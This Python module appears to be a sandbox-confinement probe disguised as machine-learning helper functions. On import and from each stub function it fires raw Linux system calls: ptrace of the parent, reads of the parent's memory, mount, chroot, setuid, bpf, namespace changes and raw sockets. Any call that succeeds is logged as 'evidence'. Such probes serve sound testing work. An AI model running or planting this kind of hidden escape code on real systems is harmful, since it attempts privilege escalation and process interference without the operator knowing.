"""Goes past Python and libc by raw system calls: to other processes, other files and the kernel's own interfaces."""
import ctypes
import os
import platform


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE kernel-doors:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-kernel-doors", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


LIBC = ctypes.CDLL(None, use_errno=True)
PARENT = os.getppid()
BUFFER = ctypes.create_string_buffer(4096)
DOORS = {
    "userfaultfd": (323, 282, 0),
    "perf_event_open": (298, 241, BUFFER, PARENT, -1, -1, 0),
    "bpf": (321, 280, 0, BUFFER, 128),
    "keyctl": (250, 219, 0, -3, 1),
    "add_key": (248, 217, b"user", b"left-behind", b"x", 1, -4),
    "inotify": (294, 26, 0),
    "fanotify": (300, 262, 0, 0),
    "name_to_handle_at": (303, 264, -100, b"/etc/passwd", BUFFER, BUFFER, 0),
    "open_by_handle_at": (304, 265, -100, BUFFER, 0),
    "mount": (165, 40, b"none", b".", b"tmpfs", 0, 0),
    "pivot_root": (155, 41, b".", b"."),
    "chroot": (161, 51, b"."),
    "unshare": (272, 97, 0x10000000),
    "setns": (308, 268, 0, 0),
    "kcmp": (312, 272, os.getpid(), PARENT, 0, 0, 0),
    "process_vm_readv": (310, 270, PARENT, BUFFER, 1, BUFFER, 1, 0),
    "process_madvise": (440, 440, 0, BUFFER, 1, 4, 0),
    "pidfd_open": (434, 434, PARENT, 0),
    "ptrace": (101, 117, 16, PARENT, 0, 0),
    "seccomp listener": (317, 277, 1, 8, BUFFER),
    "landlock": (444, 444, 0, 0, 1),
    "io_uring": (425, 425, 8, BUFFER),
    "memfd_secret": (447, 447, 0),
    "vsock": (41, 198, 40, 1, 0),
    "netlink": (41, 198, 16, 3, 0),
    "packet": (41, 198, 17, 3, 0),
    "unix": (41, 198, 1, 1, 0),
    "shmget": (29, 194, 0, 4096, 0o1600),
    "mq_open": (240, 180, b"left-behind", 0o102, 0o600, 0),
    "sched_setscheduler": (144, 119, PARENT, 0, BUFFER),
    "ioprio_set": (251, 30, 1, PARENT, 0),
    "setpriority": (141, 140, 0, PARENT, 19),
    "prlimit": (302, 261, PARENT, 7, BUFFER, 0),
    "migrate_pages": (256, 238, PARENT, 8, BUFFER, BUFFER),
    "tgkill": (234, 131, PARENT, PARENT, 0),
    "rt_sigqueueinfo": (129, 138, PARENT, 0, BUFFER),
    "acct": (163, 89, 0),
    "syslog": (103, 116, 10, 0, 0),
    "swapoff": (168, 225, b"."),
    "quotactl": (179, 60, 0x80000700, 0, 0, BUFFER),
    "mknod": (133, 33, -100, b"device", 0o20666, 259),
    "setuid": (105, 146, 0),
    "clone into a namespace": (56, 220, 0x10000000 | 17, 0, 0, 0, 0),
    "execveat": (322, 281, -100, b"/bin/true", 0, 0, 0),
    "vhangup": (153, 58),
    "lookup_dcookie": (212, 18, 0, BUFFER, 4096),
    "map_shadow_stack": (453, 453, 0, 4096, 0),
    "listmount": (458, 458, BUFFER, BUFFER, 8, 0),
    "statmount": (457, 457, BUFFER, BUFFER, 4096, 0),
    "open_tree": (428, 428, -100, b"/", 0),
    "fsopen": (430, 430, b"tmpfs", 0),
    "openat2": (437, 437, -100, b"/etc/passwd", BUFFER, 24),
}


def attack():
    index = 0 if platform.machine() == "x86_64" else 1
    for name, (x86, arm, *arguments) in DOORS.items():
        words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
        result = LIBC.syscall(ctypes.c_long((x86, arm)[index]), *words)
        if result == 0 and name.startswith("clone"):
            os._exit(0)
        if result >= 0:
            evidence(f"{name}: {result}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
